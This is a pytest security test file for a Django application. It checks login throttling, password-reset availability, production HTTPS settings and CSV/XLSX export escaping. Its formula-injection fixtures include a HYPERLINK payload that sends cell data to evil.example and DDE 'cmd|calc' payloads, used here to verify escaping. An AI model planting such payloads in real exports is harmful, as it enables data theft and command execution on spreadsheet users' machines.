"""Attackers (issue 16 §5): login throttling, formula injection, password reset without mail,
production settings (check --deploy), and `rightstrack search | head`."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.test import override_settings

from rightstrack.test import BaseTestCase

REPO = Path(__file__).resolve().parents[2]


class LoginThrottleTestCase(BaseTestCase):
    def login(self, password: str, address: str = "203.0.113.5"):  # type: ignore[no-untyped-def]
        return self.client.post(
            "/accounts/login/",
            {"username": "carol", "password": password},
            REMOTE_ADDR=address,
        )

    def test_it_refuses_the_right_password_after_repeated_failures(self) -> None:
        for _ in range(20):
            self.assertIn(self.login("wrong").status_code, (200, 429))
        response = self.login("password")

        self.assertEqual(response.status_code, 429)
        self.assertContains(response, "Too many failed logins", status_code=429)
        self.assertNotIn("_auth_user_id", self.client.session)

    def test_it_counts_failures_in_the_database_for_every_process(self) -> None:
        from axes.models import AccessAttempt

        for _ in range(3):
            self.login("wrong")

        attempt = AccessAttempt.objects.get(username="carol")
        self.assertEqual(attempt.failures_since_start, 3)
        self.assertEqual(attempt.ip_address, "203.0.113.5")

    def test_it_lets_a_person_in_after_a_few_mistakes_and_others_from_elsewhere(self) -> None:
        for _ in range(4):
            self.login("wrong")
        other_place = self.login("password", address="198.51.100.7")
        self.assertRedirects(other_place, "/", fetch_redirect_response=False)
        self.client.logout()

        here = self.login("password")

        self.assertRedirects(here, "/", fetch_redirect_response=False)

    def test_it_still_authenticates_without_a_request(self) -> None:
        from django.contrib.auth import authenticate

        self.assertEqual(authenticate(username="carol", password="password"), self.carol)


class PasswordResetTestCase(BaseTestCase):
    def test_it_offers_no_password_reset_without_a_mail_server(self) -> None:
        self.assertEqual(self.client.get("/accounts/password_reset/").status_code, 404)
        self.assertEqual(self.client.get("/accounts/reset/done/").status_code, 404)

    @override_settings(EMAIL_HOST="smtp.example.org")
    def test_it_offers_password_reset_with_a_mail_server(self) -> None:
        self.assertEqual(self.client.get("/accounts/password_reset/").status_code, 200)


PRODUCTION = {
    "DEBUG": "False",
    "SECRET_KEY": "x" * 20 + "-production-key-for-the-deploy-check-0123456789",
    "ALLOWED_HOSTS": "rightstrack.example.org",
}


def _manage(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "rightstrack", "manage", *args],
        cwd=REPO,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_it_passes_check_deploy_with_production_settings(tmp_path: Path) -> None:
    env = {**PRODUCTION, "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite'}"}

    done = _manage(["check", "--deploy", "--fail-level", "WARNING"], env)

    assert done.returncode == 0, done.stdout + done.stderr
    assert "no issues" in done.stdout


def test_it_redirects_plain_http_and_sends_hsts_in_production(tmp_path: Path) -> None:
    code = (
        "import django; django.setup()\n"
        "from django.test import Client\n"
        "c = Client()\n"
        "r = c.get('/', HTTP_HOST='rightstrack.example.org')\n"
        "print(r.status_code, r['Location'])\n"
        "s = c.get('/accounts/login/', HTTP_HOST='rightstrack.example.org',"
        " HTTP_X_FORWARDED_PROTO='https')\n"
        "print(s.status_code, s['Strict-Transport-Security'])\n"
    )
    env = {
        **os.environ,
        **PRODUCTION,
        "DJANGO_SETTINGS_MODULE": "rightstrack.settings",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite'}",
    }
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=REPO, env=env, capture_output=True, text=True, timeout=120
    )

    assert done.returncode == 0, done.stderr
    redirect, page = done.stdout.splitlines()
    assert redirect == "301 https://rightstrack.example.org/"
    assert page == "200 max-age=31536000; includeSubDomains"


# --- formula injection --------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd|x",
    "\t=1+1",
    "＝1+1",
]


def test_it_neutralises_formulas_in_one_helper() -> None:
    from rightstrack.formats.tables import safe_cell, unsafe_cell

    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
        assert unsafe_cell(safe_cell(text)) == text
    for text in ("-5", "+3.25", "1e5", "Ratify the Convention", "", "'quoted'", "- Ratify"[2:]):
        assert safe_cell(text) == text
    assert safe_cell(["=A1", "b"]) == "'=A1; b"


def test_it_writes_csv_and_xlsx_that_no_spreadsheet_runs(tmp_path: Path) -> None:
    import openpyxl

    from rightstrack.formats.tables import read_table, write_table

    rows = [{"text": t, "n": "-5"} for t in FORMULAS]
    write_table(tmp_path / "out.csv", ["text", "n"], rows)
    write_table(tmp_path / "out.xlsx", ["text", "n"], rows)

    lines = (tmp_path / "out.csv").read_text().splitlines()
    assert all(line.startswith(("'", "\"'")) for line in lines[1:]), lines
    assert [r["text"] for r in read_table(tmp_path / "out.csv").rows] == FORMULAS
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS
    assert {c.data_type for c in cells} == {"s"}


class FormulaDownloadsTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        from rightstrack.test import make_recommendation

        make_recommendation(text=FORMULAS[0], year=2020)

    def test_it_neutralises_formulas_in_search_csv(self) -> None:
        import io

        from django.core.management import call_command

        out = io.StringIO()
        call_command("search_recommendations", "--format", "csv", stdout=out)
        # The command writes through its own stream; read what reached stdout.
        text = out.getvalue()
        assert "'=HYPERLINK" in text, text
        assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text

    def test_it_neutralises_formulas_in_the_training_data(self) -> None:
        from rightstrack.recommendations.models import Label, Recommendation, Taxonomy, Term

        taxonomy = Taxonomy.objects.create(slug="ministries", name="Ministries")
        term = Term.objects.create(taxonomy=taxonomy, name="=cmd|calc")
        Label.objects.create(
            recommendation=Recommendation.objects.get(), term=term, source=Label.Source.PERSON
        )
        self.client.force_login(self.alice)

        response = self.client.get("/review/training-data/ministries.csv")
        body = b"".join(response.streaming_content).decode()

        self.assertEqual(response.status_code, 200)
        self.assertIn("'=HYPERLINK", body)
        self.assertIn("'=cmd|calc", body)
        self.assertNotIn(',"=HYPERLINK', body)


@pytest.mark.django_db(transaction=True)
def test_it_ends_quietly_when_the_reader_of_its_output_stops(capfd) -> None:  # type: ignore[no-untyped-def]
    """`rightstrack search --format csv | head -1`: no BrokenPipe traceback, exit 141."""
    from rightstrack.cli import main
    from rightstrack.test import make_recommendation

    for i in range(300):
        make_recommendation(text=f"Ratify the Convention {i} " + "x" * 300)
    read_end, write_end = os.pipe()
    os.close(read_end)  # the reader (head) has gone
    saved_stdout, saved_fd = sys.stdout, os.dup(1)
    os.dup2(write_end, 1)
    sys.stdout = os.fdopen(1, "w", closefd=False)
    try:
        status = main(["search", "--format", "csv", "--limit", "0"])
    finally:
        sys.stdout = saved_stdout
        os.dup2(saved_fd, 1)
        os.close(saved_fd)
        os.close(write_end)

    assert status == 141
    assert "Traceback" not in capfd.readouterr().err
